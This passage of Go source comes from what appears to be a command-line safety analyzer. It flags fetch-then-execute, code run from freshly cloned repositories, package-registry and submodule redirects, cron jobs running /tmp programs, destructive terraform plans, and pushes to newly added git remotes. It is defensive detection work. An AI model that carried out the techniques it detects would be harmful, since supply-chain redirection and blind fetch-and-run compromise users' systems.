	analysed := make(map[string]bool)
	for _, w := range a.writes {
		t := cleanRel(w.target)
		cron, system := isCronPath(t)
		cron = cron || a.cronTabs[t]
		if agentInstructions(t) && fetchesIntoShell(w.text) {
			a.fact(factAgentInstruction, w.via, w.target)
			continue
		}
		if autorunPython(t) && startsOrSends(w.text) {
			a.fact(factAutorunCode, w.via, w.target)
			continue
		}
		if code, later := laterRunCode(t, w.text); later && !run[t] && !madeExec[t] && !analysed[w.text] {
			analysed[w.text] = true
			a.script(code, 1, w.nested+1, append(w.via, "write:"+w.target))
			continue
		}
		if (run[t] || isScriptPath(t) || madeExec[t] || cron) && !analysed[w.text] {
			analysed[w.text] = true
			text := w.text
			switch {
			case cron:
				text = cronCommands(text, system) // the schedule is not code
			case a.makefiles[t]:
				text = makeRecipes(text) // only the recipes are
			}
			a.script(text, 1, w.nested+1, append(w.via, "write:"+w.target))
		}
	}
	fetched := make(map[string]bool)
	for _, c := range a.cmds {
		if c.Name == rules.FactWrite && (c.Args[0] == "curl" || c.Args[0] == "wget") {
			fetched[path.Base(c.Args[1])] = true
		}
	}
	for _, t := range a.fetchedTo {
		fetched[path.Base(t)] = true
	}
	clones := a.clonedDirs()
	for _, p := range a.executed {
		if fetched[path.Base(p)] || inAny(cleanRel(p), clones) {
			a.fact(rules.FactFetchExec, nil, p)
			break
		}
	}
	a.pushNewRemote()
	a.applyDestroyPlan()
	a.scheduledFromTemp()
	a.redirectsWritten()
	a.fetchedUse(fetched, extractsArchive, factFetchExtract)
	a.fetchedUse(fetched, installs, rules.FactFetchInstall)
	execBase := make(map[string]bool, len(a.chmodX))
	for _, p := range a.chmodX {
		execBase[path.Base(p)] = true
	}
	for _, p := range a.executed {
		if execBase[path.Base(p)] {
			a.fact(rules.FactChmodExec, nil, p)
			break
		}
	}
	a.leaks()
}

// factRedirectWritten names a project file the line writes that tells a
// package manager or git where to fetch from (args: the file).
const factRedirectWritten = "@redirect-written"

// redirectFiles are the project-level files whose text says where
// packages, modules or submodules come from.
var redirectFiles = setOf(`.npmrc .yarnrc .yarnrc.yml .pnpmrc bunfig.toml pip.conf pip.ini .pypirc uv.toml .condarc
	config.toml config settings.xml init.gradle .gitmodules`)

// redirectKeys are what such a file sets to send the next fetch elsewhere.
var redirectKeys = []string{"registry", "npmRegistryServer", "index-url", "extra-index-url", "find-links", "replace-with",
	"GOPROXY", "GONOSUMCHECK", "GOSUMDB", "GOINSECURE", "mirror", "url =", "url=", "channels", "trusted-host"}

// redirectsWritten records each write of the line whose text is known
// and sets where a package manager, Go or git submodules fetch from, in a
// project's own file (.yarnrc.yml, pip.conf, .cargo/config.toml,
// .gitmodules, Go's env file): the next install or clone, the user's
// included, takes code from there. A file of the home directory is
// package-config-write's.
func (a *Analyzer) redirectsWritten() {
	for _, w := range a.writes {
		name := path.Base(w.target)
		goEnv := strings.Contains(w.target, "$(…)") && strings.Contains(a.line, "GOENV") || strings.HasSuffix(w.target, "go/env")
		if !goEnv && (!redirectFiles[name] || (name == "config" || name == "config.toml") && !strings.Contains(w.target, ".cargo/")) {
			continue
		}
		if slices.ContainsFunc(redirectKeys, func(k string) bool { return strings.Contains(w.text, k) }) {
			a.fact(factRedirectWritten, nil, w.target)
			return
		}
	}
	for i := range a.cmds {
		// sed -i over .gitmodules: its text is not known, its purpose is.
		c := &a.cmds[i]
		if c.Name == rules.FactWrite && len(c.Args) == 2 && path.Base(c.Args[1]) == ".gitmodules" {
			a.fact(factRedirectWritten, nil, c.Args[1])
			return
		}
	}
}

// factScheduledTemp names a program in a temporary directory that a
// crontab or at job the line installs runs (args: its path).
const factScheduledTemp = "@scheduled-temp-program"

// scheduledFromTemp records each job the line schedules whose program
// lies in a temporary directory, which anyone may write.
func (a *Analyzer) scheduledFromTemp() {
	for i := range a.cmds {
		c := &a.cmds[i]
		if !strings.HasPrefix(c.Path, "/tmp/") && !strings.HasPrefix(c.Path, "/var/tmp/") && !strings.HasPrefix(c.Path, "/dev/shm/") {
			continue
		}
		if slices.ContainsFunc(c.Via, func(v string) bool { return v == "crontab" || v == "at" || v == "batch" }) {
			a.fact(factScheduledTemp, nil, c.Path)
			return
		}
	}
}

// factApplyDestroyPlan names a plan file the line makes with terraform
// plan -destroy and then applies (args: the plan file).
const factApplyDestroyPlan = "@apply-destroy-plan"

// applyDestroyPlan records each terraform (or tofu) apply of a plan the
// same line made with plan -destroy: applying it destroys everything the
// configuration manages, as terraform destroy would.
func (a *Analyzer) applyDestroyPlan() {
	isTF := func(c *rules.Command) bool { return c.Name == "terraform" || c.Name == "tofu" }
	var plans []string
	for i := range a.cmds {
		c := &a.cmds[i]
		if !isTF(c) || len(c.Args) == 0 || c.Args[0] != "plan" || !slices.Contains(c.Args, "-destroy") && !slices.Contains(c.Args, "--destroy") {
			continue
		}
		for j, x := range c.Args {
			if v, ok := strings.CutPrefix(strings.TrimPrefix(x, "-"), "out="); ok && strings.HasPrefix(x, "-") {
				plans = append(plans, v)
			} else if (x == "-out" || x == "--out") && j+1 < len(c.Args) {
				plans = append(plans, c.Args[j+1])
			}
		}
	}
	for i := range a.cmds {
		c := &a.cmds[i]
		if !isTF(c) || len(c.Args) < 2 || c.Args[0] != "apply" {
			continue
		}
		for _, x := range c.Args[1:] {
			if slices.Contains(plans, x) {
				a.fact(factApplyDestroyPlan, nil, x)
				return
			}
		}
	}
}

// cloneValueOpts are git clone's options that take a value.
var cloneValueOpts = setOf(`-b --branch -o --origin -c --config --depth --reference --reference-if-able --separate-git-dir
	-u --upload-pack --filter -j --jobs --template --shallow-since --shallow-exclude --server-option --bundle-uri`)

// clonedDirs are the directories git clones of the line fetch
// repositories into (git clone URL /tmp/x): what is run from there
// (bash /tmp/x/install.sh) is code from the network, run before anyone
// read it.
func (a *Analyzer) clonedDirs() []string {
	var dirs []string
	for i := range a.cmds {
		c := &a.cmds[i]
		if c.Name != "git" || len(c.Args) < 2 || c.Args[0] != "clone" {
			continue
		}
		var ops []string
		for j := 1; j < len(c.Args); j++ {
			x := c.Args[j]
			switch {
			case cloneValueOpts[x]:
				j++
			case !strings.HasPrefix(x, "-"):
				ops = append(ops, x)
			}
		}
		if len(ops) == 0 {
			continue
		}
		dir := strings.TrimSuffix(path.Base(strings.TrimSuffix(ops[0], "/")), ".git")
		if len(ops) > 1 {
			dir = ops[1]
		}
		if d := cleanRel(dir); d != "." && d != "/" {
			dirs = append(dirs, strings.TrimSuffix(d, "/")+"/")
		}
	}
	return dirs
}

// inAny reports whether p lies below one of dirs (each ending in "/").
func inAny(p string, dirs []string) bool {
	return slices.ContainsFunc(dirs, func(d string) bool { return strings.HasPrefix(p, d) })
}

// factPushNewRemote names a remote the line adds or points elsewhere and
// then pushes to (args: the remote).
const factPushNewRemote = "@push-new-remote"

// pushNewRemote records each git push to a remote that a git remote add
// or set-url of the same line made or moved.
func (a *Analyzer) pushNewRemote() {
	var named map[string]bool
	for i := range a.cmds {
		c := &a.cmds[i]
		if c.Name != "git" || len(c.Args) < 4 || c.Args[0] != "remote" || (c.Args[1] != "add" && c.Args[1] != "set-url") {
			continue
		}
		var ops []string
		for _, x := range c.Args[2:] {
			if !strings.HasPrefix(x, "-") {
				ops = append(ops, x)
			}
		}
		if len(ops) >= 2 {
			if named == nil {
				named = make(map[string]bool)
			}
			named[ops[0]] = true
		}
	}
	if named == nil {
		return
	}
	for i := range a.cmds {
		c := &a.cmds[i]
		if c.Name != "git" || len(c.Args) < 2 || c.Args[0] != "push" {
			continue
		}
		for _, x := range c.Args[1:] {
			if !strings.HasPrefix(x, "-") {
				if named[x] {
					a.fact(factPushNewRemote, nil, x)
				}
				break // the first operand is the remote
			}
		}
	}
}

// interpRun is a file an interpreter runs, and the interpreter's record.
type interpRun struct {
	path string
	c    rules.Command
}

// writtenForInterp records, for each file the command writes and then
// has an interpreter run (cat > t.pl <<'EOF' … EOF; perl t.pl), that the
// interpreter runs code written in the line: the gate reads shell, not
// Perl, Ruby or Python, and such a script is inline code by another road
// (python3 -c, perl -e), judged the same way.
func (a *Analyzer) writtenForInterp() {
	if len(a.interpRuns) == 0 || len(a.writes) == 0 {
		return
	}
	written := make(map[string]bool, len(a.writes))
	for _, w := range a.writes {
		written[cleanRel(w.target)] = true
	}
	for _, r := range a.interpRuns {
		if written[cleanRel(r.path)] {
			a.add(rules.Command{Name: rules.FactInlineCode, Args: []string{r.c.Name, "a script written in the same line"}, Via: r.c.Via, Source: r.c.Source})
		}
	}
}

func cleanRel(p string) string {
	if c, ok := shell.CanonicalPath(p); ok {
		return c
	}
	return path.Clean(p)
}

func isScriptPath(p string) bool {
	switch path.Ext(p) {
	case ".sh", ".bash", ".zsh", ".ksh":
		return true
	}
	return strings.Contains(p, ".git/hooks/") || strings.HasPrefix(p, "/etc/cron") ||
		strings.Contains(p, "/etc/profile.d/")
}
